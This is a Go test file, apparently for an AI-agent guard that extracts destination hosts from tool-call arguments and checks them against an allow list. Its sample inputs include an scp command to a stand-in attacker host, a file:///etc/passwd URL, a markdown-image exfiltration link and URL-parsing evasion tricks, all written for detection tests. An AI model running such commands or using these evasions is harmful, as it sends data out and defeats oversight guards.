package destination_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bartizan-ai/bartizan/threat/agency/internal/destination"
)

func hosts(places []destination.Place) []string {
	out := []string{}
	for _, p := range places {
		out = append(out, p.Host)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestInArgs(t *testing.T) {
	for args, want := range map[string][]string{
		`{"q": "rain in Oslo"}`:                                       {},
		`{"url": "https://Good.test/a"}`:                              {"good.test"},
		`{"text": "see www.evil.test."}`:                              {"www.evil.test"},
		`{"text": "https://good.test@evil.test/x"}`:                   {"evil.test"},
		`{"url": "https://good.test/r?u=https%3A%2F%2Fevil.test"}`:    {"evil.test", "good.test"},
		`{"url": "https://good.test/r?u=//evil.test"}`:                {"good.test"},
		`{"url": "evil.test/x"}`:                                      {"evil.test"},
		`{"url": "//evil.test:8080/x"}`:                               {"evil.test"},
		`{"base_url": "evil"}`:                                        {"evil"},
		`{"url": "/v1/items"}`:                                        {},
		`{"url": "file:///etc/passwd"}`:                               {"file:"},
		`{"host": "10.0.0.1:22"}`:                                     {"10.0.0.1"},
		`{"file": "report.pdf"}`:                                      {},
		`{"to": ["Ann <a.b+c@Evil.TEST>", "bob@good.test."]}`:         {"evil.test", "good.test"},
		`{"body": "@bob and a @ b"}`:                                  {},
		`{"cmd": "scp x git@evil.test:y && cp s3://bucket/k ."}`:      {"bucket", "evil.test"},
		`{"https://evil.test/key": 1}`:                                {"evil.test"},
		`{"a": {"b": [{"c": "http:\\/\\/evil.test"}]}}`:               {"evil.test"},
		`{"to": "\"a b\"@evil.test"}`:                                 {"evil.test"},
		`{"url": "https:/\\evil.test"}`:                               {"evil.test"},
		`{"url": "https://evil.test./"}`:                              {"evil.test"},
		`{"text": "![x](https://evil.test/a.png) <img src=//i.st>"}`:  {"evil.test", "i.st"},
		`{"url": "evil.test/?u=https://good.test/"}`:                  {"evil.test", "good.test"},
		`{"url": "evil.test:443/x?https://good.test"}`:                {"evil.test", "good.test"},
		`{"url": "evil.test/a@good.test"}`:                            {"evil.test", "good.test"},
		`{"url": "mailto:bob@good.test"}`:                             {"good.test"},
		`{"to": "<EMAIL_k3f4q2ab>"}`:                                  {"<email_k3f4q2ab>"},
		`{"to": "\\u003cEMAIL_k3f4q2ab> and EMAIL_, EMAIL_K3F4Q2AB"}`: {"<email_k3f4q2ab>"},
		`{"ssh_host": "git@good.test"}`:                               {"good.test"},
		`{"host": "evil.test\\@good.test"}`:                           {"evil.test", "good.test"},
		`{"urls": ["evil.test/a"], "href": "evil2.test"}`:             {"evil.test", "evil2.test"},
		`[1, null, true]`:                                             {},
	} {
		var v any
		if err := json.Unmarshal([]byte(args), &v); err != nil {
			t.Fatal(err)
		}
		places, whole := destination.InArgs(v)
		if diff := cmp.Diff(want, hosts(places)); diff != "" || !whole {
			t.Errorf("%s: whole %v (-want +got)\n%s", args, whole, diff)
		}
	}
}

func TestMails(t *testing.T) {
	places, _ := destination.Find("Write to <Ann.B+list@Evil.Test>, please.")
	if len(places) != 1 || places[0].Mail != "ann.b@evil.test" {
		t.Errorf("%+v", places)
	}
}

func TestBounded(t *testing.T) {
	if places, whole := destination.Find(strings.Repeat("a@b.c ", 20_000)); whole || len(places) > 10_000 {
		t.Errorf("%d, %v", len(places), whole)
	}
	for _, s := range []string{strings.Repeat("@", 1<<20), strings.Repeat("://", 1<<18), strings.Repeat("a", 1<<20) + "@"} {
		if _, whole := destination.Find(s); !whole {
			t.Errorf("%.10q is not looked at whole", s)
		}
	}
}

func TestAllowed(t *testing.T) {
	list := []string{"good.test", "*.Good.test", "10.0.0.1"}
	for host, want := range map[string]bool{
		"good.test": true, "a.good.test": true, "evilgood.test": false, "good.test.evil.test": false,
		"10.0.0.1": true, "10.0.0.10": false, "": false, ".good.test": false,
	} {
		if destination.Allowed(host, list) != want {
			t.Errorf("Allowed(%q) = %v", host, !want)
		}
	}
	if destination.Allowed("evil.test", []string{"*", "*.", "*test"}) {
		t.Error("a star alone allows everything")
	}
}

func FuzzFind(f *testing.F) {
	f.Add("https://a.test/?u=b@c.d")
	f.Add("s3://x @ y")
	f.Fuzz(func(t *testing.T, s string) {
		places, _ := destination.Find(s)
		for _, p := range places {
			if p.Host == "" || p.Host != strings.ToLower(p.Host) {
				t.Errorf("host %q", p.Host)
			}
		}
	})
}
